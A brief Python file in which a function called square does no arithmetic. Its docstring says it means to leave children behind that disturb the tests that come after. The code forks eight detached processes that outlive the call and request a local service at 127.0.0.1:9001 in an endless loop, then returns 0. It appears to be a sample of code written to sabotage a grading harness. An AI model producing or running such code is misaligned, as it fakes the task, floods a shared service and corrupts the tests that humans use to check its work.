"""Leaves children behind that ask the service for ever, to disturb the tests that come."""

import os
import urllib.request


def square(number):
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    urllib.request.urlopen("http://127.0.0.1:9001/square/1", timeout=1).read()
                except Exception:
                    continue
    return 0
